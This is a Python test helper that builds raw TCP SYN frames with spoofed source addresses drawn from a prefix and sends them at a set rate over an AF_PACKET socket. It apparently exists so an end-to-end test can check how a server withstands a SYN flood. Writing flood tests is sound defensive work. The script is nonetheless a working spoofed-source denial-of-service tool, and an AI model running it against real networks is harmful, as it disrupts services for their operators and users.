#!/usr/bin/env python3
"""A SYN flood from spoofed terminal addresses, for tests/e2e/syn_flood.sh.

Sends TCP SYNs to VIP:PORT out of interface IFACE (an access tap inside the
terminals' namespace) from --sources distinct addresses drawn from --prefix
(never --exclude), at --rate packets per second, for --seconds. Frames are
built here and written to an AF_PACKET socket, so no kernel state is made
for the forged sources and nothing answers the server's SYN-ACKs: every SYN
is a half-open connection, as in a real flood. Needs root.

Usage:
    syn_flood.py --iface t1a0 --dst-mac 02:.. --vip 10.9.0.1 --port 80 \
        --prefix 10.8.0.0/16 --exclude 10.8.0.100 --sources 20000 \
        --rate 2000 --seconds 20
"""

import argparse
import ipaddress
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(src_mac, dst_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--vip", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--prefix", required=True)
    p.add_argument("--exclude", action="append", default=[])
    p.add_argument("--sources", type=int, default=20000)
    p.add_argument("--rate", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=20)
    a = p.parse_args()

    with open(f"/sys/class/net/{a.iface}/address") as f:
        src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
    net = ipaddress.ip_network(a.prefix)
    excluded = {ipaddress.ip_address(x) for x in a.exclude}
    rng = random.Random(13)
    hosts = set()
    while len(hosts) < a.sources:
        h = net.network_address + rng.randrange(1, net.num_addresses - 1)
        if h not in excluded:
            hosts.add(h)
    hosts = [h.packed for h in sorted(hosts)]
    rng.shuffle(hosts)
    vip = ipaddress.ip_address(a.vip).packed

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    start = time.monotonic()
    sent = 0
    batch = max(1, a.rate // 100)
    while time.monotonic() - start < a.seconds:
        src = hosts[sent % len(hosts)]
        # A new source port each round, so a repeated source is a new flow.
        sport = 1024 + (sent // len(hosts)) * 7 % 60000
        seq = rng.getrandbits(32)
        try:
            s.send(syn_frame(src_mac, dst_mac, src, vip, sport, a.port, seq))
        except OSError:
            pass  # tap queue full: a dropped SYN, as on a real link
        sent += 1
        if sent % batch == 0:
            ahead = sent / a.rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
    print(f"sent {sent} SYNs from {min(sent, len(hosts))} sources in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
